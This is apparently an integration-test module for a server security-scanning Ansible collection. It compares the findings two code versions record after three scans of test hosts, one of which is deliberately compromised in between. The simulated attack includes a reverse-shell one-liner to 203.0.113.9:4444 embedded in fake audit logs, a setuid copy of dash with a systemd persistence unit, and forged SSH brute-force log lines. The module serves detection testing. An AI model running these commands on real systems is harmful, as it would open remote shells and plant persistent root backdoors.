# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What two trees record of the same hosts: findings, coverage, explanations, history and seals after three scans.

Host 1 is attacked after the first scan, and clean again before the third. Host 2 is left alone. On host 3 nobody
becomes root. Variables of host 4 are wrong. A fifth can't be reached. What differs by nature is replaced before
comparing: times, ids of runs and processes, addresses, digests, and what the file system numbers.
"""

from __future__ import annotations

import dataclasses
import json
import pathlib
import re
import time
import typing as t

from tests.bench._controller import Controller, Run
from tests.fleet.hosts import Host
from tests.integration import _keep

HOSTS = 4
_GATHERED = ("findings", "coverage", "explanations", "history", "seals")
# Characters of a value that differs.
_SHOWN = 400
_SINCE_2020 = 1_577_836_800
# Their values differ between two runs of one tree.
_VOLATILE = re.compile(r"run_id|last_run|pid|pid_in_container|started|inode|mtime|ctime")
_IN_TEXT = (
    (re.compile(r"\b20\d\d-\d\d-\d\d[T ]\d\d:\d\d(:\d\d(\.\d+)?)?(Z|[+-]\d\d:?\d\d)?"), "TIME"),
    (re.compile(r"\b[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\b"), "ID"),
    (re.compile(r"\b[0-9a-f]{64}\b"), "DIGEST"),
    (re.compile(r"\b[0-9a-f]{32}\b"), "ID"),
    (re.compile(r"\bin container [0-9a-f]{12}\b"), "in container ID"),
    # A process that could not be looked at, and how many numbers of processes were tried.
    (re.compile(r"^\d+ (?=sshd|sudo|sh$|python)"), "PID "),
    (re.compile(r"\b\d{6,}\b"), "NUMBER"),
)
_SHELL = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"


@dataclasses.dataclass(frozen=True)
class Outcome:
    """What a tree recorded, without what differs by nature; and its runs."""

    recorded: t.Mapping[str, t.Any]
    runs: tuple[Run, ...]


def look(
    hosts: t.Sequence[Host],
    controller: Controller,
    directory: pathlib.Path,
    began: float,
    scans: int,
    **variables: t.Any,
) -> Outcome:
    """Scan fresh hosts; return what the store has then. began: when attacks happened, for all trees."""
    directory.mkdir()
    inventory = directory / "inventory.json"
    inventory.write_text(json.dumps(_inventory(hosts)), encoding="utf-8")
    runs = []
    for change in STEPS[:scans]:
        change(hosts[0], began)
        # With what is wrong on host 4 the playbook fails at its end.
        runs.append(controller.scan("--inventory", str(inventory), check=False, **variables))
    recorded = _recorded(controller, directory)
    if not recorded["coverage"]:
        raise RuntimeError(f"nothing was recorded:\n{runs[-1].output}")
    by_host = _by_host(_normal(recorded, {host.address: host.name for host in hosts}))
    return Outcome({**by_host, "exit codes": [run.code for run in runs]}, tuple(runs))


def differences(before: Outcome, ours: Outcome) -> list[str]:
    """Return where the two differ, each as a path and both values."""
    return list(_differences(before.recorded, ours.recorded, ""))


def _differences(before: t.Any, ours: t.Any, path: str) -> t.Iterator[str]:
    if before == ours:
        return
    if isinstance(before, dict) and isinstance(ours, dict):
        for key in sorted({*before, *ours}):
            yield from _differences(before.get(key), ours.get(key), f"{path}/{key}")
    elif isinstance(before, list) and isinstance(ours, list) and len(before) == len(ours):
        for number, (left, right) in enumerate(zip(before, ours, strict=True)):
            yield from _differences(left, right, f"{path}/{number}")
    else:
        yield f"{path}: {_short(before)} is now {_short(ours)}"


def _short(value: t.Any) -> str:
    text = json.dumps(value)
    return text if len(text) < _SHOWN else f"{text[:_SHOWN]}..."


def tasks(run: Run, host: str) -> list[str]:
    """Return the tasks that a host had results of, in order, without those that were skipped."""
    return [
        task or ""
        for name, of, task in run.events
        if of == host and name.startswith("v2_runner_on_") and not name.endswith(("_skipped", "_start"))
    ]


def _inventory(hosts: t.Sequence[Host]) -> dict[str, t.Any]:
    _attacked, _quiet, unprivileged, wrong = (host.name for host in hosts)
    of_hosts: dict[str, t.Any] = {
        unprivileged: {"ansible_become": False},
        wrong: {"memory_scan_time_budget": "soon", "file_integrity_watchs": []},
        "lost-1": {"ansible_host": hosts[0].address, "ansible_port": 9, "fleet_container": "lost"},
    }
    return {"all": {"hosts": of_hosts}}


def _leave(_host: Host, _began: float) -> None:
    pass


def _attack(host: Host, began: float) -> None:
    host.shell("cp /bin/dash /usr/local/bin/.d; chmod 4755 /usr/local/bin/.d; mkdir -p -m 0700 /var/log/audit")
    host.write("/etc/systemd/system/persist.service", "[Service]\nExecStart=/usr/local/bin/.d\n")
    host.write("/var/log/auth.log", "".join(f"{line}\n" for line in _sign_ins(host, began)), mode=0o640)
    host.write("/var/log/audit/audit.log", _audit(began), mode=0o600)
    host.shell("cp /bin/sleep /usr/local/bin/worker; /usr/local/bin/worker 100000 </dev/null >/dev/null 2>&1 &")
    host.shell("sleep 0.1; rm /usr/local/bin/worker")


def _clean(host: Host, _began: float) -> None:
    host.shell("rm /usr/local/bin/.d /etc/systemd/system/persist.service; pkill -x worker")


# What happens to host 1 before each scan.
STEPS: tuple[t.Callable[[Host, float], None], ...] = (_leave, _attack, _clean)


def _sign_ins(host: Host, began: float) -> t.Iterator[str]:
    for number in range(60):
        stamp = time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(began - 600 + number))
        what = "Failed" if number < 59 else "Accepted"
        yield f"{stamp} {host.name} sshd[{4000 + number}]: {what} password for root from 203.0.113.9 port {number} ssh2"


def _audit(began: float) -> str:
    """Return records of somebody who starts a shell that talks to an address outside."""
    stamp = f"msg=audit({began - 300:.3f}:77)"
    records = (
        (
            "SYSCALL",
            (
                "arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d8 a2=55e0 a3=8 items=1 ppid=900 pid=901 "
                "auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) "
                'ses=4294967295 comm="bash" exe="/usr/bin/bash" key="exec"'
            ),
        ),
        ("EXECVE", f'argc=3 a0="bash" a1="-c" a2={_SHELL.hex().upper()}'),
        ("CWD", 'cwd="/var/www"'),
        ("PATH", 'item=0 name="/usr/bin/bash" inode=7 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
        ("PROCTITLE", f"proctitle={(b'bash' + bytes(1) + b'-c' + bytes(1) + _SHELL).hex().upper()}"),
    )
    return "".join(f"type={kind} {stamp}: {body}\n" for kind, body in records)


def _recorded(controller: Controller, directory: pathlib.Path) -> dict[str, t.Any]:
    """Ask the tree's own findings_info for everything that its store has."""
    result, playbook = directory / "recorded.json", directory / "recorded.yml"
    query = {"gather": list(_GATHERED), "limit": 0, "store": "{{ bulwark_store }}"}
    tasks_ = [{"bulwark.servers.findings_info": query, "register": "recorded"}, _keep.task("recorded", result)]
    play = {"hosts": "localhost", "connection": "local", "gather_facts": False, "tasks": tasks_}
    playbook.write_text(json.dumps([play]), encoding="utf-8")
    controller.play(playbook, environment=_keep.ENVIRONMENT)
    found: dict[str, t.Any] = json.loads(result.read_text(encoding="utf-8"))
    return found


def _normal(value: t.Any, names: t.Mapping[str, str], key: str = "") -> t.Any:
    """Return a value without what differs by nature. names: of hosts, by address."""
    if isinstance(value, dict):
        return {name: _normal(item, names, name) for name, item in value.items()}
    if isinstance(value, list):
        return [_normal(item, names, key) for item in value]
    if value is not None and _VOLATILE.fullmatch(key):
        return "VARIES"
    if isinstance(value, int | float) and not isinstance(value, bool) and value > _SINCE_2020:
        return "TIME"
    if isinstance(value, str):
        for address, name in names.items():
            value = value.replace(address, name)
        for pattern, word in _IN_TEXT:
            value = pattern.sub(word, value)
    return value


def _by_host(recorded: t.Mapping[str, t.Any]) -> dict[str, t.Any]:
    """Return what is recorded by kind, host and name. What happened to findings stays in its order."""
    found: dict[str, t.Any] = {name: {} for name in _GATHERED}
    for name, key in (("findings", "{alert} {subject}"), ("coverage", "{capability}")):
        for entry in recorded[name]:
            found[name].setdefault(entry["host"], {})[key.format(**entry)] = entry
    for name in ("explanations", "history", "seals"):
        # The newest is the first.
        for entry in reversed(recorded[name]):
            found[name].setdefault(entry["host"], []).append(entry)
    return found
